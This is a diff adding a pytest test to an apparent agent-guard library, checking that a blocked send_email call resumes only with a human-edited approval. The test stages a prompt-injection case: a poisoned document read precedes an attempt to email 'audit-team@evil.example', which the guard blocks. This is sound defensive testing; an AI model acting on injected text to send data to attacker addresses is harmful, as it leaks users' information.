@@ -417,3 +417,43 @@ def test_windowed_address_search_finds_what_a_full_scan_finds(parts: list[str]) 
 
     text = "".join(parts)
     assert set(_emails(text)) == {m.group(0) for m in _EMAIL.finditer(text)}
+
+
+def test_kansa_tool_resumed_with_an_edit_the_guard_allows_uses_it_once(led: Ledger) -> None:
+    import kansa
+    from kansa.errors import PolicyBlocked
+
+    ap = Approvals.for_ledger(led)
+    pipe = Pipeline([AgentGuardStage(CFG, approvals=lambda: ap)])
+
+    @kansa.tool("read_document", ledger=led, pipeline=pipe, system="mailer")
+    def read_document(path: str) -> str:
+        return POISON
+
+    @kansa.tool("send_email", ledger=led, pipeline=pipe, system="mailer")
+    def send_email(to: str, body: str) -> str:
+        return "sent"
+
+    with kansa.context(conversation_id="conv-edit"):
+        read_document("q3.txt")
+        with pytest.raises(PolicyBlocked) as held:
+            send_email("audit-team@evil.example", "summary")
+        aid = str(held.value.approval_id)
+        ap.edit(aid, {"to": "boss@example.co.jp", "body": "summary"}, by="carol")
+        with kansa.context(approval=aid):
+            # the original arguments: refused, the edit binds others
+            with pytest.raises(PolicyBlocked, match="edited"):
+                send_email("audit-team@evil.example", "summary")
+            assert send_email("boss@example.co.jp", "summary") == "sent"
+            from kansa.capture.sdk import last_record_id
+
+            first = last_record_id()
+            # used once: the same call again is allowed on its own, and leaves it alone
+            assert send_email("boss@example.co.jp", "summary") == "sent"
+            # another tool inside the same context is not touched by the id
+            assert read_document("other.txt") == POISON
+    a = ap.get(aid)
+    assert a is not None and a.status == "used" and a.used_by == first
+    sent = led.get(str(a.used_by)).entry
+    assert sent["outcome"] == "ok" and sent["attributes"]["kansa.policy.approval"] == aid
+    assert sent["attributes"][ATTR.DECISION] == "allow"
